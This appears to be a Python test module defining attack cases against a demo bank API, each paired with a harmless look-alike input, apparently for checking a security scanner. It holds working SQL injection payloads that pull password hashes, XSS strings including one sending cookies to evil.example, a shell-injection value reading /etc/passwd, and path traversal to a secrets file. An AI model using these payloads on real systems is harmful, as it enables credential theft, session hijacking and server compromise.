"""Breaches that smuggle a second language into a value: SQL, HTML, shell, paths."""

from typing import Final
from urllib.parse import quote

from doorward.demo.bank.data import ALICE_ACCOUNT, BOB_ACCOUNT
from doorward.demo.breaches.case import API8, Answers, Breach, found, line_with, member
from doorward.demo.client import Client

_UNION: Final = "nobody' UNION SELECT username, password_hash FROM users WHERE username = 'bob' --"
_SUBQUERY: Final = "x' || (SELECT password_hash FROM users WHERE username = 'root') || '"
_SCRIPT: Final = "<script>fetch('//evil.example/'+document.cookie)</script>"
_IMAGE: Final = "<img src=x onerror=alert(document.cookie)>"


def _search(client: Client, text: str) -> Answers:
    return (client.get(f"/search?q={quote(text)}", "alice"),)


def _pay_with_note(client: Client, note: str) -> Answers:
    order = {"to": BOB_ACCOUNT, "amount": 1, "note": note}
    return (client.send_json("POST", f"/accounts/{ALICE_ACCOUNT}/transfers", "alice", order),)


def _note_in_statement(client: Client, note: str) -> Answers:
    return (*_pay_with_note(client, note), client.get(f"/accounts/{ALICE_ACCOUNT}/statement", "alice"))


def _stolen_row(answers: Answers) -> str | None:
    iban = str(member(answers[-1], "items", 0, "iban") or "")
    return (
        f"row of users: {member(answers[-1], 'items', 0, 'name')} {iban[:21]}..." if iban.startswith("sha1$") else None
    )


def _stolen_hash(answers: Answers) -> str | None:
    note = str(member(answers[-1], "note") or "")
    return f"root's hash in a note: {note[:21]}..." if "sha1$" in note else None


def _command_output(answers: Answers) -> str | None:
    lines = str(member(answers[-1], "output") or "").split("\n")
    return next((f"/etc/passwd: {line}" for line in lines if line.startswith("root:")), None)


BREACHES: Final = (
    Breach(
        id="sql-in-query",
        name="steal the user table through the search box",
        threat=API8,
        code="inspect.sql",
        attack=lambda client: _search(client, _UNION),
        evidence=_stolen_row,
        twin=lambda client: _search(client, "Union Select Coffee"),
        twin_works=found("DE02120300000000202051"),
    ),
    Breach(
        id="sql-in-body",
        name="read a password hash through the note of a transfer",
        threat=API8,
        code="inspect.sql",
        attack=lambda client: _pay_with_note(client, _SUBQUERY),
        evidence=_stolen_hash,
        twin=lambda client: _pay_with_note(client, "select seats from row 4, or ask where"),
        twin_works=found("select seats", status=201),
    ),
    Breach(
        id="script-reflected",
        name="send a victim a link that runs a script",
        threat=API8,
        code="inspect.xss",
        attack=lambda client: (client.get(f"/greeting?name={quote(_SCRIPT)}", "alice"),),
        evidence=lambda answers: line_with(answers, "<script>"),
        twin=lambda client: (client.get(f"/greeting?name={quote('Tom & Ann, 3 < 4')}", "alice"),),
        twin_works=found("Tom & Ann"),
    ),
    Breach(
        id="script-stored",
        name="leave a script in a statement that others open",
        threat=API8,
        code="inspect.xss",
        attack=lambda client: _note_in_statement(client, _IMAGE),
        evidence=lambda answers: line_with(answers, "<img src=x onerror="),
        twin=lambda client: _note_in_statement(client, "an image of a fox, on error call me"),
        twin_works=found("an image of a fox"),
    ),
    Breach(
        id="shell-command",
        name="run a command on the bank's own server",
        threat=API8,
        code="inspect.command",
        attack=lambda client: (
            client.send_json("POST", "/diagnostics/lookup", "carol", {"host": "localhost; head -n 1 /etc/passwd"}),
        ),
        evidence=_command_output,
        twin=lambda client: (client.send_json("POST", "/diagnostics/lookup", "carol", {"host": "localhost"}),),
        twin_works=found("looking up localhost"),
    ),
    Breach(
        id="path-in-query",
        name="climb out of the statements folder",
        threat=API8,
        code="inspect.traversal",
        attack=lambda client: (client.get("/statements?file=../secrets.txt", "alice"),),
        evidence=lambda answers: line_with(answers, "vault-master-key"),
        twin=lambda client: (client.get("/statements?file=2025-01.txt", "alice"),),
        twin_works=found("January 2025"),
    ),
    Breach(
        id="path-encoded",
        name="climb out of the documents folder, percent-encoded",
        threat=API8,
        code="transport.path_traversal",
        attack=lambda client: (client.get("/documents/..%2Fsecrets.txt", "alice"),),
        evidence=lambda answers: line_with(answers, "vault-master-key"),
        twin=lambda client: (client.get("/documents/terms.v2.txt", "alice"),),
        twin_works=found("Terms and conditions"),
    ),
)
"""Is anything in it meant to do harm?"""
